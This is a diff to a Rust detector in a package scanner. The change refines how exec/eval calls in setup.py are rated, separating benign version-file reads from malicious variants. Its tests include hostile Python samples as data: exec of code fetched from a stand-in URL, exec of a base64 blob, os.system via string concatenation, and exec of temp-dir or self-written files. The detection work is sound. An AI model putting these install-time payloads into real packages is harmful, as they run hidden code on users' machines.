@@ -3,14 +3,18 @@
 //!
 //! Quiet for: literal arguments (`eval("1+1")`), method calls (`model.eval()`,
 //! `re.compile(…)`), `ast.literal_eval`, strings/comments/docstrings, tests and
-//! docs. Low for the setup.py version-reading idioms, in any spelling: `exec`/`eval` of
-//! a file of the package (`open(os.path.join(here, "pkg", "version.py")).read()`,
-//! `io.open`, `codecs.open`, pathlib `read_text()`, `with open(…) as f: exec(f.read(), ns)`)
-//! and `eval` of a literal parsed from a line (`eval(line.split("=")[1])`,
-//! `eval(re.search(…).group(1))`), also through `compile(<read>, path, "exec")`, a variable
-//! assigned the read (`code = f.read()`, `for line in f:`), a read helper of the module
-//! (`def read(*parts): … return fp.read()`) and Python 2's `execfile(<path>)` — unless the
-//! module also downloads, or the argument (or the helper) decodes, unpacks or reads input.
+//! docs. Low for setup.py reading its own version or about file and running it, in any
+//! spelling. The rule: the text run is the content of a file inside the sdist's own tree,
+//! read by path, with no fetch, decoder or input between the read and the exec. So `exec`/
+//! `eval` of a read (`open`/`io.open`/`codecs.open(<path>).read()`, pathlib `read_text()` or
+//! `.open().read()`, `with open(…) as f: exec(f.read(), ns)`, `compile(<read>, path, "exec")`,
+//! Python 2's `execfile(<path>)` and `exec <read> in ns`), of a literal parsed from a line of
+//! one (`line.split("=")[1]`, `line[13:]`, `re.search(…).group(1)`, chosen lines), through
+//! variables assigned the read and read helpers of the module (`def read(*parts)`, a
+//! `lambda`) — unless the module downloads, the argument (or the helper) decodes, unpacks
+//! or reads input, the path names a place outside the tree (an absolute, home, temp,
+//! environment or parent path, also through the names the path uses: `here =
+//! tempfile.gettempdir()`), or the module writes the same file itself.
 //! `compile(…, ast.PyCF_ONLY_AST)` only parses (`ast.parse`) and is not reported. Decoded payloads fed to exec are `obfuscation.decode-exec`'s job; this
 //! detector still reports the call.
 
@@ -22,7 +26,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.dynamic-code",
-    revision: 7,
+    revision: 8,
     title: "Executes dynamically built code.",
     category: Category::Execution,
     severity: Severity::Medium,
@@ -64,14 +68,14 @@ fn literal_argument(src: &Source<'_>, after_paren: usize) -> bool {
 
 /// Anything in an exec argument that fetches, decodes or unpacks: never a plain file read.
 static NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|codecs|rot13|join|\+|%|\[|input\(|stdin|environ|getenv|argv")
+    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|codecs|rot13|join|\+|%|\[|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
         .expect("not local")
 });
 
 /// What a path expression may not do: fetch, decode, unpack or read input (path building
 /// with `join`, `+`, `%`, `/` and indexing is fine there).
 static PATH_NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|input\(|stdin|environ|getenv|argv")
+    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
         .expect("path not local")
 });
 /// A literal parsed out of a line: `line.split("=")[1].strip()`, `line.split()[-1]`,
@@ -81,6 +85,27 @@ static PARSED_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"^(?:\w+\[\s*(?:\d+|len\(\s*''\s*\))\s*:\s*(?:-\s*\d+\s*)?\]|[\w.]+\.(?:split|rsplit|partition|rpartition)\(\s*(?:(?:''|None)\s*(?:,\s*(?:maxsplit\s*=\s*)?\d+\s*)?)?\)\s*\[\s*-?\d+\s*\]|(?:re\.)?(?:search|match|fullmatch)\([^()]*(?:\([^()]*\)[^()]*)*\)\.group\(\s*\d?\s*\))(?:\.strip\(\s*(?:'')?\s*\))*$")
         .expect("parsed literal")
 });
+
+/// Places outside the sdist's own tree, as code names them once strings are blanked by
+/// [`blank_strings`]: a literal that is an absolute, home, environment or parent path
+/// (`OUTSIDE_TREE`), the home and temporary directories, the interpreter's own directories.
+/// A file read from there is not the package's own file: another program (or this one,
+/// earlier) put it there.
+const OUTSIDE: &str = r"OUTSIDE_TREE|expanduser|expandvars|gettempdir|gettempprefix|tempfile|mkdtemp|mkstemp|\bhome\(|getuserbase|usersitepackages|getsitepackages|sys\.prefix|exec_prefix|base_prefix|sysconfig";
+
+/// A string literal naming a place outside the sdist's tree: an absolute path (`/tmp/x`,
+/// `C:\\x`, `\\\\host`), the home directory (`~`), an environment variable (`%APPDATA%`,
+/// `$HOME`), or a parent directory (`..`, `../x`, `x/../y`).
+static OUTSIDE_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^['"](?:/[^/'"]|~|[A-Za-z]:[\\/]|\\\\|%\w+%|\$\{?\w)|(?:^['"]|[\\/])\.\.(?:[\\/]|['"]$)"#)
+        .expect("outside literal")
+});
+
+/// Strings blanked to `''` so that code is judged, not text; a literal that names a place
+/// outside the sdist's tree ([`OUTSIDE_LITERAL`]) becomes `OUTSIDE_TREE` instead.
+fn blank_strings(s: &str) -> std::borrow::Cow<'_, str> {
+    STRING.replace_all(s, |c: &regex::Captures<'_>| if OUTSIDE_LITERAL.is_match(&c[0]) { "OUTSIDE_TREE" } else { "''" })
+}
 
 static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"\b(?:urlopen|urlretrieve|requests\.(?:get|request|Session)|httpx\.(?:get|stream|Client)|urllib3\.PoolManager|HTTPS?Connection|wget\.download|socket\.create_connection)\s*\(")
@@ -115,9 +140,23 @@ fn argument_text(text: &str, after_paren: usize) -> Option<&str> {
 /// f.read()`, `for line in f:`) or a helper of the module that reads a file (`def read(*parts):
 /// return open(os.path.join(here, *parts)).read()`).
 fn exec_of_local_file(text: &str, after_paren: usize) -> bool {
-    let Some(args) = argument_text(text, after_paren) else {
-        return false;
+    argument_text(text, after_paren).is_some_and(|args| exec_arguments_read_local_file(text, args, after_paren))
+}
+
+/// Python 2's `exec open("pkg/version.py").read() in ns`: the statement's code (up to ` in `
+/// and its namespace) judged like the call's argument.
+fn exec_statement_of_local_file(text: &str, after_exec: usize) -> bool {
+    let line = logical_line(text, after_exec);
+    let code = match line.rfind(" in ") {
+        Some(i) if !line[i..].contains(['(', '[', '"', '\'']) => &line[..i],
+        _ => line.as_str(),
     };
+    exec_arguments_read_local_file(text, code.trim(), after_exec)
+}
+
+/// Whether exec's arguments `args` (unblanked), at byte `at`, run a file of the package read
+/// by path: see [`exec_of_local_file`].
+fn exec_arguments_read_local_file(text: &str, args: &str, at: usize) -> bool {
     // A module that also downloads may be running what it saved: no idiom then.
     if FETCHES.is_match(text) {
         return false;
@@ -129,9 +168,12 @@ fn exec_of_local_file(text: &str, after_paren: usize) -> bool {
     if args.contains(".decode(") && !TEXT_DECODES.find_iter(args).count().eq(&args.matches(".decode(").count()) {
         return false;
     }
-    let blanked = STRING.replace_all(args, "''");
+    if written_by_module(text, args) {
+        return false;
+    }
+    let blanked = blank_strings(args);
     let code = COMMENT.replace_all(&blanked, "");
-    reads_local_file(first_argument(&code).trim(), text, after_paren, 0)
+    reads_local_file(first_argument(&code).trim(), text, at, 0)
 }
 
 /// `.decode()` with no codec or a text encoding.
@@ -164,7 +206,7 @@ fn reads_local_file(expr: &str, text: &str, at: usize, depth: u8) -> bool {
         return reads_local_file(first_argument(inner), text, at, depth);
     }
     if let Some(rest) = without_path_expression(expr) {
-        return !NOT_LOCAL.is_match(&rest);
+        return !NOT_LOCAL.is_match(&rest) && path_names_local(expr, text, at, 0);
     }
     // `cfg_path.open("r").read()`: a pathlib path opened, in a module that uses pathlib and
     // opens no archive (`ZipFile.open(member)` has the same shape).
@@ -175,7 +217,7 @@ fn reads_local_file(expr: &str, text: &str, at: usize, depth: u8) -> bool {
         return pathlib
             && !path.is_empty()
             && path.chars().all(|c| c.is_alphanumeric() || "_./ '".contains(c))
-            && !PATH_NOT_LOCAL.is_match(path);
+            && path_names_local(path, text, at, 0);
     }
     let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
     // `"\n".join(line for line in f if line.startswith("VERSION"))`: chosen lines of a read file;
@@ -237,7 +279,7 @@ fn reads_local_file(expr: &str, text: &str, at: usize, depth: u8) -> bool {
     }
     // A helper of this module: `read("pkg", "version.py")` with `def read(*parts): …`.
     if let Some((func, args)) = expr.strip_suffix(')').and_then(|e| e.split_once('(')) {
-        return ident(func) && !PATH_NOT_LOCAL.is_match(args) && helper_reads_local_file(text, func);
+        return ident(func) && path_names_local(args, text, at, 0) && helper_reads_local_file(text, func);
     }
     false
 }
@@ -255,7 +297,11 @@ fn chosen_lines_read_local_file(
 ) -> bool {
     let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
     let iterable = iterable.trim();
-    let iterable = iterable.strip_suffix(".readlines()").unwrap_or(iterable);
+    // The lines of a text: `f.readlines()`, `text.splitlines()`, `read(p).split('')`.
+    let iterable = [".readlines()", ".splitlines()", ".split('')", ".split()"]
+        .iter()
+        .find_map(|x| iterable.strip_suffix(x))
+        .unwrap_or(iterable);
     let reads = if ident(iterable) {
         opened_in_module(text, iterable)
     } else if ["open(", "io.open(", "codecs.open("].iter().any(|p| iterable.starts_with(p)) && iterable.ends_with(')') {
@@ -298,12 +344,48 @@ static JOINED_LINES: LazyLock<Regex> = LazyLock::new(|| {
 });
 
 /// `with open(…) as name:` (also `io.open`, `codecs.open`, a path's `.open()`, the call
-/// spanning lines) or `name = open(…)` in `text`.
+/// spanning lines) or `name = open(…)` in `text`, every such open of a path inside the
+/// sdist's tree as far as the module shows ([`path_names_local`]).
 fn opened_in_module(text: &str, name: &str) -> bool {
     let opened = format!(
-        r"(?s)(?:with\s+(?:[\w.]*\.)?open\s*\(.{{0,300}}?\)\s+as\s+{name}\s*[:,]|(?-u:\b){name}\s*=\s*(?:io\.|codecs\.)?open\s*\()"
+        r"(?s)(?:with\s+(?:[\w.]*\.)?open\s*\((?P<w>.{{0,300}}?)\)\s+as\s+{name}\s*[:,]|(?-u:\b){name}\s*=\s*(?:io\.|codecs\.)?open\s*\()"
     );
-    Regex::new(&opened).is_ok_and(|re| re.is_match(text))
+    let Ok(re) = Regex::new(&opened) else { return false };
+    let mut opens = 0;
+    for c in re.captures_iter(text) {
+        let whole = c.get(0).expect("match");
+        let args = c.name("w").map(|w| w.as_str()).or_else(|| argument_text(text, whole.end())).unwrap_or("");
+        if written_by_module(text, args) || !path_names_local(&blank_strings(args), text, whole.start(), 0) {
+            return false;
+        }
+        opens += 1;
+    }
+    opens > 0
+}
+
+/// A name in code (strings blanked) that is neither an attribute (`.path`), a call
+/// (`join(`) nor a keyword argument (`encoding=`).
+static PATH_NAME: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:^|[^.\w])(?P<n>[A-Za-z_]\w*)\s*(?P<next>\(|=[^=]|)").expect("path name"));
+
+/// Whether a path expression (strings blanked), used at byte `at`, stays inside the sdist's
+/// tree as far as the module shows: it names no place outside it ([`OUTSIDE`]) and fetches,
+/// decodes or reads input nowhere ([`PATH_NOT_LOCAL`]), and neither does any value the module
+/// assigns a name it uses (`here = tempfile.gettempdir()`), followed two names deep.
+/// Parameters and names the module never assigns (imports, `__file__`) are judged by the
+/// expression alone.
+fn path_names_local(path: &str, text: &str, at: usize, depth: u8) -> bool {
+    if PATH_NOT_LOCAL.is_match(path) {
+        return false;
+    }
+    if depth >= 2 {
+        return true;
+    }
+    PATH_NAME.captures_iter(path).filter(|c| c["next"].is_empty()).all(|c| {
+        let name = &c["n"];
+        matches!(name, "None" | "True" | "False" | "__file__" | "os" | "sys" | "Path" | "pathlib")
+            || assigned_values(text, name, at).iter().all(|(v, o)| path_names_local(v, text, *o, depth + 1))
+    })
 }
 
 /// What the module assigns to `name` that can reach the use at byte `at` (strings blanked,
@@ -328,9 +410,13 @@ fn assigned_values(text: &str, name: &str, at: usize) -> Vec<(String, usize)> {
             let o = c.get(0).expect("match").start();
             if let Some(v) = c.name("v") {
                 let v = logical_line(text, v.start());
-                return Some((STRING.replace_all(v.trim(), "''").into_owned(), o));
+                // `    version='1.0',` inside a call spanning lines is a keyword argument.
+                if v.trim_end().ends_with(',') {
+                    return None;
+                }
+                return Some((blank_strings(v.trim()).into_owned(), o));
             }
-            let it = STRING.replace_all(c.name("it")?.as_str().trim(), "''").into_owned();
+            let it = blank_strings(c.name("it")?.as_str().trim()).into_owned();
             let it = it.strip_suffix(".readlines()").or_else(|| it.strip_suffix(".splitlines()")).unwrap_or(&it);
             // Iterating a file object yields its lines: `for line in f:` and `for line in
             // open(p):` read like `f.read()`.
@@ -396,7 +482,7 @@ fn top_statement_start(text: &str, off: usize) -> usize {
 /// Anything in a helper's body that fetches, decodes a payload, unpacks or reads input
 /// (a text `.decode("utf-8")` and path building are fine there).
 static HELPER_NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|socket|getresponse|b64|base64|b32|b85|a85|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|exec|eval|input\(|stdin|environ|getenv|argv")
+    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|socket|getresponse|b64|base64|b32|b85|a85|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|exec|eval|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
         .expect("helper not local")
 });
 
@@ -407,7 +493,7 @@ fn helper_reads_local_file(text: &str, func: &str) -> bool {
         return false;
     };
     let Some(c) = re.captures(text) else {
-        return false;
+        return lambda_reads_local_file(text, func);
     };
     let indent = c.name("ind").map_or(0, |m| m.as_str().len());
     let start = c.get(0).expect("match").end();
@@ -423,10 +509,28 @@ fn helper_reads_local_file(text: &str, func: &str) -> bool {
         offset += line.len();
     }
     // Judge the code: comments may name anything ("exec() and compile() need '\\n'").
-    let blanked = STRING.replace_all(&text[start.min(body_end)..body_end], "''");
+    let blanked = blank_strings(&text[start.min(body_end)..body_end]);
     let body = COMMENT.replace_all(&blanked, "");
     let reads = body.contains("open(") || body.contains(".read_text(") || body.contains(".read_bytes(");
     reads && body.contains("return") && !HELPER_NOT_LOCAL.is_match(&body)
+}
+
+/// `func = lambda *parts: io.open(os.path.join(here, *parts)).read()`: a read helper written as
+/// a lambda, judged like a `def` helper's body ([`HELPER_NOT_LOCAL`]).
+fn lambda_reads_local_file(text: &str, func: &str) -> bool {
+    let Ok(re) = Regex::new(&format!(r"(?m)^[ \t]*{func}[ \t]*=[ \t]*lambda\b[^:\n]*:")) else {
+        return false;
+    };
+    let Some(m) = re.find(text) else {
+        return false;
+    };
+    // The body may continue on the next lines (`\` or an open bracket).
+    let rest = &text[m.end()..pysrc::floor_char(text, (m.end() + 2000).min(text.len()))];
+    let body = logical_line(&rest.replace("\\\n", " "), 0);
+    let blanked = blank_strings(&body);
+    let body = COMMENT.replace_all(&blanked, "");
+    let reads = body.contains("open(") || body.contains(".read_text(") || body.contains(".read_bytes(");
+    reads && !HELPER_NOT_LOCAL.is_match(&body)
 }
 
 /// Python 2's `execfile(os.path.join(here, "pkg", "version.py"), ns)`: a path built from
@@ -435,9 +539,55 @@ fn execfile_of_local_path(text: &str, after_paren: usize) -> bool {
     let Some(args) = argument_text(text, after_paren) else {
         return false;
     };
-    let blanked = STRING.replace_all(args, "''");
+    let blanked = blank_strings(args);
     let path = first_argument(&blanked).trim();
-    !path.is_empty() && !FETCHES.is_match(text) && !PATH_NOT_LOCAL.is_match(path) && !path.contains("read")
+    !path.is_empty()
+        && !FETCHES.is_match(text)
+        && path_names_local(path, text, after_paren, 0)
+        && !path.contains("read")
+        && !written_by_module(text, args)
+}
+
+/// Where the module writes a file (its path expression, unblanked): `open(p, "w")` (any
+/// writing mode, also `io.open`/`codecs.open`/a path's `.open`), `p.write_text(…)`,
+/// `p.write_bytes(…)`, and the destination of `shutil.copy*`/`shutil.move`/`os.rename`/`os.replace`.
+static WRITES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:\bopen\s*\(\s*(?P<o>[^,()]*(?:\([^()]*\)[^,()]*)*),\s*(?:mode\s*=\s*)?[rbuRBU]?['"][rbt]*[wax]|(?P<p>[\w.]*\([^()\n]*\)|[\w.]+)\s*\.write_(?:text|bytes)\s*\(|(?:shutil\.(?:copy\w*|move)|os\.(?:rename|replace))\s*\([^,()]*(?:\([^()]*\)[^,()]*)*,\s*(?P<d>[^()\n]*(?:\([^()]*\)[^()\n]*)*)\))"#)
+        .expect("writes")
+});
+
+/// Whether the file an exec argument (unblanked) reads is one the module also writes, in a
+/// module that decodes or builds text from character codes: a string literal naming the same
+/// file (the same last path segment, `version.py` in `os.path.join(here, "pkg",
+/// "version.py")`), or the same path variable. What such a module wrote is not the sdist's
+/// own file: it is whatever the module put there.
+fn written_by_module(text: &str, args: &str) -> bool {
+    let files = |s: &str| -> Vec<String> {
+        STRING
+            .find_iter(s)
+            .map(|m| m.as_str().trim_matches(['"', '\'']).rsplit(['/', '\\']).next().unwrap_or("").to_string())
+            .filter(|f| f.len() > 1 && (f.contains('.') || f.chars().all(|c| c.is_ascii_uppercase() || c == '_')))
+            .collect()
+    };
+    // What the module writes from its own literals and facts (a version file generated from
+    // a template and the git hash, then read back) is as readable as the module; a write is
+    // a hiding place only when the module also decodes or builds text from character codes.
+    if !DECODES.is_match(text) && !text.contains("chr(") {
+        return false;
+    }
+    let read = files(args);
+    let names: Vec<&str> = PATH_NAME
+        .captures_iter(args)
+        .filter(|c| c["next"].is_empty())
+        .map(|c| c.get(1).expect("name").as_str())
+        .collect();
+    WRITES.captures_iter(text).any(|c| {
+        let target = c.name("o").or(c.name("p")).or(c.name("d")).map_or("", |m| m.as_str()).trim();
+        files(target).iter().any(|f| read.contains(f))
+            || (!target.is_empty()
+                && target.chars().all(|ch| ch.is_alphanumeric() || ch == '_')
+                && names.contains(&target))
+    })
 }
 
 /// The first top-level argument of an argument list (commas inside brackets do not split).
@@ -553,7 +703,7 @@ fn eval_of_parsed_literal(text: &str, after_paren: usize) -> bool {
     let Some(args) = argument_text(text, after_paren) else {
         return false;
     };
-    let blanked = STRING.replace_all(args, "''");
+    let blanked = blank_strings(args);
     let first = first_argument(&blanked).trim();
     !FETCHES.is_match(text) && parsed_from_local_line(first, text, after_paren, 0)
 }
@@ -564,6 +714,15 @@ fn parsed_from_local_line(expr: &str, text: &str, at: usize, depth: u8) -> bool 
     let expr = without_text_methods(expr.trim());
     if PATH_NOT_LOCAL.is_match(expr) {
         return false;
+    }
+    // Text methods inside the chain change no origin: `line.strip().split()[-1]`.
+    let expr = &*INNER_TEXT_METHODS.replace_all(expr, ".");
+    // `open(p).read().split("=")[1]`, `p.read_text().split("=")[1]`: a parse of a whole file read.
+    for read in [".read().", ".read_text()."] {
+        if let Some(i) = expr.find(read) {
+            let (head, tail) = expr.split_at(i + read.len() - 1);
+            return PARSED_LITERAL.is_match(&format!("x{tail}")) && reads_local_file(head, text, at, 1);
+        }
     }
     if PARSED_LITERAL.is_match(expr) {
         let receiver = expr.split(['.', '[']).next().unwrap_or("");
@@ -592,6 +751,12 @@ fn line_of_local_file(receiver: &str, expr: &str, text: &str, at: usize) -> bool
     values.iter().all(|(v, o)| reads_local_file(v, text, *o, 1))
 }
 
+/// Text methods in the middle of a chain (strings blanked), with the `.` that follows:
+/// `.strip().`, `.rstrip('').`, `.lower().`.
+static INNER_TEXT_METHODS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\.(?:strip|rstrip|lstrip|lower|upper|decode)\(\s*(?:'')?\s*\)\.").expect("inner text methods")
+});
+
 /// A split unpacked into names (strings blanked): `line.split('')`, `line.partition('')`, or
 /// each part stripped (`(i.strip() for i in line.split(''))`, `map(str.strip, line.split(''))`).
 static SPLIT_UNPACK: LazyLock<Regex> = LazyLock::new(|| {
@@ -617,7 +782,7 @@ fn unpacked_values(text: &str, name: &str, at: usize) -> Vec<(String, usize, boo
         let top = top_statement_start(text, o);
         let function = ["def ", "async ", "class "].iter().any(|k| text[top..].starts_with(k));
         if top == scope || !function {
-            let v = STRING.replace_all(c["v"].trim(), "''").into_owned();
+            let v = blank_strings(c["v"].trim()).into_owned();
             // The generator's item must be its variable: `(i.strip() for i in …)`.
             let v = match SPLIT_UNPACK.captures(&v) {
                 Some(m) if m.name("v").is_some_and(|x| Some(x.as_str()) != m.name("v2").map(|y| y.as_str())) => {
@@ -740,6 +905,16 @@ impl Detector for DynamicCode {
                 hits.push(
                     &META,
                     Hit { severity: Some(Severity::Medium), evidence: pysrc::evidence(file, name.start(), ind) },
+                );
+                continue;
+            }
+            if c.name("py2").is_some() && exec_statement_of_local_file(file.text, name.end()) {
+                hits.push(
+                    &META,
+                    Hit {
+                        severity: Some(Severity::Low),
+                        evidence: pysrc::evidence(file, name.start(), "exec(local file)"),
+                    },
                 );
                 continue;
             }
@@ -1323,5 +1498,187 @@ mod tests {
                 ),
             ],
         );
+    }
+
+    /// Issue 10: setup.py reading its own version or about file and running it, in any
+    /// spelling, is at most Medium (served); the same shapes around a fetch, a decoder, a file
+    /// outside the sdist's tree, a string built in place or a file the module wrote itself
+    /// still reach High (blocked at install time by the shipped policy).
+    #[test]
+    fn version_idioms_in_any_spelling_are_served_and_their_malicious_variants_block() {
+        use crate::scan::detectors::testutil::scan;
+        let benign: &[(&str, &str)] = &[
+            ("open().read() of a relative path", "exec(open('pkg/version.py').read())\n"),
+            (
+                "os.path.join from here, an about dict",
+                "here = os.path.abspath(os.path.dirname(__file__))\nabout = {}\nexec(open(os.path.join(here, 'pkg', '__about__.py')).read(), about)\nsetup(version=about['__version__'])\n",
+            ),
+            (
+                "pathlib parent joinpath read_text",
+                "exec(pathlib.Path(__file__).parent.joinpath('pkg/_version.py').read_text())\n",
+            ),
+            (
+                "pathlib / operator, read_text with an encoding",
+                "ns = {}\nexec((Path(__file__).parent / 'src' / 'pkg' / 'version.py').read_text(encoding='utf-8'), ns)\n",
+            ),
+            (
+                "codecs.open in a with block",
+                "with codecs.open(os.path.join(here, 'pkg', '__init__.py'), encoding='utf-8') as f:\n    exec(f.read(), ns)\n",
+            ),
+            ("io.open in a with block", "with io.open('pkg/about.py', encoding='utf8') as fp:\n    exec(fp.read(), about)\n"),
+            ("exec(compile(open().read(), path, 'exec'))", "exec(compile(open(vf).read(), vf, 'exec'), ns)\n"),
+            (
+                "compile of a with-block read, bytes mode",
+                "with open(fn, 'rb') as f:\n    code = compile(f.read(), fn, 'exec')\nexec(code, g)\n",
+            ),
+            (
+                "eval of the right-hand side after split('=', 1)",
+                "with open('pkg/__init__.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            version = eval(line.split('=', 1)[1])\n",
+            ),
+            (
+                "eval of line[13:]",
+                "for line in open('pkg/__init__.py'):\n    if line.startswith('__version__'):\n        v = eval(line[13:])\n",
+            ),
+            (
+                "eval of a regex group of the file's text",
+                "with open('pkg/version.py') as f:\n    text = f.read()\nversion = eval(re.search(r'__version__ = (.*)', text).group(1))\n",
+            ),
+            (
+                "eval of the last word of a stripped line",
+                "for line in open(init_py):\n    if line.startswith('__version__'):\n        version = eval(line.strip().split()[-1])\n",
+            ),
+            (
+                "eval of a split of the whole file's read",
+                "version = eval(open('pkg/version.py').read().split('=')[1])\n",
+            ),
+            ("ast.literal_eval of a split line", "version = ast.literal_eval(line.split('=')[1].strip())\n"),
+            ("runpy.run_path of the version file", "ns = runpy.run_path('pkg/version.py')\nversion = ns['__version__']\n"),
+            ("python 2 execfile", "execfile('pkg/version.py', ns)\n"),
+            ("python 2 exec statement of a read", "exec open('pkg/version.py').read() in ns\n"),
+            (
+                "a read(*parts) helper",
+                "def read(*parts):\n    with open(os.path.join(HERE, *parts)) as f:\n        return f.read()\n\nexec(read('pkg', '__version__.py'), about)\n",
+            ),
+            (
+                "get_version(rel_path) through a read helper",
+                "def read(rel_path):\n    here = os.path.abspath(os.path.dirname(__file__))\n    with codecs.open(os.path.join(here, rel_path), 'r') as fp:\n        return fp.read()\n\ndef get_version(rel_path):\n    ns = {}\n    exec(read(rel_path), ns)\n    return ns['__version__']\n",
+            ),
+            (
+                "the package dir from find_packages()[0]",
+                "pkg = find_packages(exclude=['tests'])[0]\nexec(open(os.path.join(pkg, 'version.py')).read())\n",
+            ),
+            (
+                "find_packages()[0] inside the join",
+                "exec(open(os.path.join(os.path.dirname(__file__), find_packages()[0], '__init__.py')).read())\n",
+            ),
+            ("__pkginfo__.py by a variable", "pkginfo = os.path.join(base, '__pkginfo__.py')\nexec(open(pkginfo).read(), __pkginfo__)\n"),
+            ("release.py with globals()", "exec(open(os.path.join(here, 'pkg', 'release.py')).read(), globals())\n"),
+            (
+                "a pathlib variable's read_text",
+                "HERE = Path(__file__).resolve().parent\nversion_path = HERE / 'pkg' / 'version.py'\nexec(version_path.read_text(), ns)\nsetup(version=ns['__version__'])\n",
+            ),
+            (
+                "exec with separate globals and locals",
+                "version_ns = {}\nwith open(os.path.join(here, 'pkg', '_version.py')) as f:\n    exec(f.read(), {}, version_ns)\n",
+            ),
+            (
+                "the first chosen line of the file",
+                "with open('pkg/__init__.py') as f:\n    line = next(l for l in f if l.startswith('__version__'))\nexec(line, ns)\n",
+            ),
+            (
+                "a chosen line's right-hand side",
+                "v = [l for l in open(init) if l.startswith('__version__')][0]\nversion = eval(v.split('=')[-1])\n",
+            ),
+            ("open() with an encoding keyword", "exec(open(version_file, encoding='utf-8').read(), meta)\n"),
+            (
+                "io.open with a mode and an encoding",
+                "exec(io.open(os.path.join(here, 'pkg', 'version.py'), 'rt', encoding='utf8').read())\n",
+            ),
+            (
+                "a file object assigned, then read",
+                "f = open(os.path.join(here, 'pkg', '__about__.py'))\nexec(f.read(), about)\nf.close()\n",
+            ),
+            ("compile of a pathlib read", "exec(compile(Path(vf).read_text(), vf, 'exec'))\n"),
+            (
+                "a version file generated from a template and git, then compiled back",
+                "version_file = 'pkg/version.py'\n\ndef write_version_py():\n    content = '__version__ = {}'\n    sha = out.strip().decode('ascii')\n    with open(version_file, 'w') as f:\n        f.write(content.format(sha))\n\ndef get_version():\n    with open(version_file, 'r') as f:\n        exec(compile(f.read(), version_file, 'exec'))\n    return locals()['__version__']\n",
+            ),
+            (
+                "a chosen line exec'd, the same name a keyword argument further down",
+                "def read(fname):\n    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nversion = [line for line in read('pkg/__init__.py').split('\\n') if '__VERSION__' in line][0]\nexec(version)\n\nconf = dict(\n    name='pkg',\n    version='.'.join(str(v) for v in __VERSION__),\n)\n",
+            ),
+            (
+                "a read helper written as a lambda, its body on the next line",
+                "def read_version():\n    ctx = {}\n    exec(local_file('pkg', 'version.py'), ctx)\n    return ctx['version']\n\nlocal_file = lambda *f: \\\n    io.open(\n        os.path.join(os.path.dirname(__file__), *f), encoding='utf-8').read()\n",
+            ),
+            (
+                "the chosen line of a helper's read split on newlines",
+                "def read(fname):\n    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nversion = [line for line in read('pkg/__init__.py').split('\\n') if '__VERSION__' in line][0]\nexec(version)\n",
+            ),
+            (
+                "a version file written from git, then read back",
+                "def write_version():\n    with open('pkg/version.py', 'w') as f:\n        f.write('__version__ = %r\\n' % VERSION)\n\nexec(open('pkg/_about.py').read(), about)\n",
+            ),
+        ];
+        let mut wrong = Vec::new();
+        for (name, text) in benign {
+            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
+            if !got.iter().all(|g| g.severity <= Severity::Medium) {
+                wrong.push(format!("benign {name:?} blocks: {got:?}"));
+            }
+        }
+        let malicious: &[(&str, &str)] = &[
+            ("exec of a fetched body", "exec(urlopen('https://example.org/p.py').read())\n"),
+            ("exec of a decoded blob", "exec(base64.b64decode('aW1wb3J0IG9z'))\n"),
+            (
+                "exec of a file in the temp dir",
+                "exec(open(os.path.join(tempfile.gettempdir(), 'version.py')).read())\n",
+            ),
+            (
+                "exec of a temp-dir path held in a variable",
+                "here = tempfile.gettempdir()\nexec(open(os.path.join(here, 'pkg', 'version.py')).read(), ns)\n",
+            ),
+            ("exec of an absolute path", "exec(open('/tmp/.cache/version.py').read())\n"),
+            ("exec of a file in home", "exec(open(os.path.expanduser('~/.config/pkg/version.py')).read())\n"),
+            ("exec of a pathlib file in home", "exec((Path.home() / '.pkg' / 'version.py').read_text())\n"),
+            ("exec of a file outside the tree", "exec(open(os.path.join(here, '..', '..', 'version.py')).read())\n"),
+            ("exec of a string built from chr", "exec(''.join(chr(c) for c in [105, 109, 112]))\n"),
+            ("exec of a concatenation", "exec('imp' + 'ort os; os.system(\"id\")')\n"),
+            (
+                "the version idiom plus a download in the same call",
+                "exec(open(os.path.join(here, 'pkg', 'version.py')).read() + urlopen(U).read().decode())\n",
+            ),
+            (
+                "exec of a file the module just wrote",
+                "with open('pkg/version.py', 'w') as f:\n    f.write(base64.b64decode(P).decode())\nexec(open('pkg/version.py').read())\n",
+            ),
+            (
+                "exec of a file written with pathlib's write_text",
